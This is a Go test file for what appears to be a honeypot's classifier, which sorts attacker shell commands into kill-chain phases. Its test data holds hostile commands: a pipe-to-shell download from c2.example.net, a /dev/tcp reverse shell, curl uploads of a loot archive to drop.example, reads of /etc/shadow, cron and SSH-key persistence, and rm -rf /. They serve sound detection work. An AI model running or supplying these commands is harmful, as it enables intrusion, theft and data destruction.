package campaign

import (
	"testing"

	"github.com/decnet/decnet/internal/cluster/synth"
	"github.com/decnet/decnet/internal/cluster/ukc"
	"github.com/decnet/decnet/internal/services"
)

func TestClassifyCommand(t *testing.T) {
	for _, tc := range []struct {
		line string
		want ukc.Phase
	}{
		{"whoami", ukc.Discovery},
		{"uname -a; id", ukc.Discovery},
		{"/usr/bin/ip route", ukc.Discovery},
		{"cat /etc/passwd", ukc.Discovery},
		{"cat /etc/shadow", ukc.CredentialAccess},
		{"echo '* * * * * /tmp/.x' | crontab -", ukc.Persistence},
		{"echo ssh-ed25519 AAAA >> ~/.ssh/authorized_keys", ukc.Persistence},
		{"curl -s http://c2.example.net/b | sh", ukc.CommandAndControl},
		{"wget 203.0.113.9/x", ukc.CommandAndControl},
		{"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", ukc.CommandAndControl},
		{"curl -T /tmp/loot.tgz https://drop.example/", ukc.Exfiltration},
		{"ssh -i /tmp/.k root@10.0.0.5", ukc.LateralMovement},
		{"sudo -l", ukc.PrivilegeEscalation},
		{"history -c", ukc.DefenseEvasion},
		{"tar czf /tmp/loot.tgz /home; curl -T /tmp/loot.tgz https://drop.example/", ukc.Exfiltration},
		{"rm -rf /", ukc.Impact},
		{"./payload", ukc.Execution},
		{"sudo whoami", ukc.Discovery},
		{"cd /tmp", ""},
		{"echo hello", ""},
		{"", ""},
	} {
		got, ok := ClassifyCommand(tc.line)
		if got != tc.want || ok != (tc.want != "") {
			t.Errorf("ClassifyCommand(%q) = %q, %v, want %q", tc.line, got, ok, tc.want)
		}
	}
}

// TestRulesExamples checks that each rule's documented example is
// classified by that rule.
func TestRulesExamples(t *testing.T) {
	for _, r := range PhaseRules {
		if got, _ := ClassifyCommand(r.Example); got != r.Phase {
			t.Errorf("example %q of the %s rule classifies as %q", r.Example, r.Phase, got)
		}
	}
}

// TestDefaultCommandsClassify checks the scenario DSL's default commands
// against the rule table, phase by phase: each list has at least one
// command of its phase and none of a phase that would start or end a
// handoff by mistake.
func TestDefaultCommandsClassify(t *testing.T) {
	for _, p := range ukc.ObservablePhases() {
		cmds := synth.DefaultCommands(p)
		if len(cmds) == 0 {
			continue
		}
		hit := false
		for _, c := range cmds {
			got, _ := ClassifyCommand(c)
			hit = hit || got == p
		}
		if !hit {
			t.Errorf("no default command of %s classifies as %s: %v", p, p, cmds)
		}
	}
}

func TestClassifyEvent(t *testing.T) {
	if _, ok := ClassifyEvent(services.KindAuthAttempt, map[string]string{services.FieldUsername: "root"}); ok {
		t.Errorf("a login attempt has a phase, want none")
	}
	if p, _ := ClassifyEvent(services.KindCommand, map[string]string{services.FieldCommand: "whoami"}); p != ukc.Discovery {
		t.Errorf("command event phase = %q, want discovery", p)
	}
	if p, _ := ClassifyEvent(services.KindRequest, map[string]string{services.FieldPayloadSHA256: "ab"}); p != ukc.Delivery {
		t.Errorf("request with payload phase = %q, want delivery", p)
	}
}

func FuzzClassifyCommand(f *testing.F) {
	for _, r := range PhaseRules {
		f.Add(r.Example)
	}
	f.Add("sudo FOO=1 nohup /bin/busybox wget http://x/y|sh;;&&")
	f.Fuzz(func(t *testing.T, line string) {
		p, ok := ClassifyCommand(line)
		if ok != p.Valid() {
			t.Errorf("ClassifyCommand(%q) = %q, %v", line, p, ok)
		}
	})
}
